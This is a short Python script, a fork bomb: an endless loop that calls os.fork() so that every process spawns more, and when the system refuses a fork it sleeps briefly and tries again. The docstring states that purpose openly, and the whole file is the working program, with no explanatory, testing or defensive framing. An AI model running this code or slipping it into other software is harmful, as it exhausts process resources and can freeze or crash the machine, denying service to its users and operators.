"""Forks without end: every process makes more processes; where that is refused, it waits and tries again."""

import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.05)
